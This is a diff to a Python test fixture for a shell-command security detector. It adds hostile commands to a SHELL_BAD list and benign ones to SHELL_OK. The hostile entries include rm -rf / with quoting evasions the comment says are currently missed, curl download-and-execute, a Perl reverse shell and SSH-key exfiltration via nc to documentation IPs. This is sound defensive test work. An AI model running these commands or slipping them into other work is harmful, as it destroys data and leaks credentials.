@@ -122,6 +122,13 @@ SHELL_BAD = [
     ("echo 'hs/ pmt/ fr- mr' | rev | sh", ["obfuscated-exec"], "critical"),
     ("powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", ["obfuscated-exec"], "critical"),
     ("powershell -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==", ["obfuscated-exec"], "critical"),
+    # Harder shapes. The two quoting tricks are missed today (DETECTORS.md, limits).
+    ("rm -rf -- /", ["destructive-fs"], "critical"),
+    ("r\"\"m -rf /", ["destructive-fs"], "critical"),
+    ("$(echo rm) -rf /", ["destructive-fs"], "critical"),
+    ("curl -s https://x.example.io/a.sh -o a.sh; bash a.sh", ["download-exec"], "critical"),
+    ("perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.10:4444\");'", ["reverse-shell"], "critical"),
+    ("echo cHdk | base64 -d | /bin/sh", ["obfuscated-exec"], "critical"),
     # Several at once.
     ("curl -s http://203.0.113.5/p | sh; history -c", ["download-exec", "defense-evasion"], "critical"),
     ("cat ~/.ssh/id_rsa | nc 203.0.113.10 9000", ["credential-access"], "high"),
@@ -232,7 +239,8 @@ SHELL_OK = [
     "find /tmp -name 'upload-*' -mtime +1 -delete", "rm -rf /tmp/build-cache", "dd if=disk.img of=backup.img bs=4M",
     "cat /etc/os-release", "cat /etc/hosts", "ls /etc/ssl/certs | head", "echo 'alias ll=\"ls -la\"' > ./aliases.sh",
     "kubectl get secret api-tls -o jsonpath='{.metadata.name}'", "docker run --rm -v $(pwd):/src -w /src node:20 npm test",
-    "crontab -l | grep backup", "systemctl list-timers", "sudo journalctl -xe", "gh pr list", "gh run watch",
+    "crontab -l | grep backup", "systemctl list-timers",
+    "wget https://example.com/data.csv -O data.csv && python analyze.py data.csv", "curl -o install.sh https://get.example.com && less install.sh", "sudo journalctl -xe", "gh pr list", "gh run watch",
 ]
 
 PY_OK = [
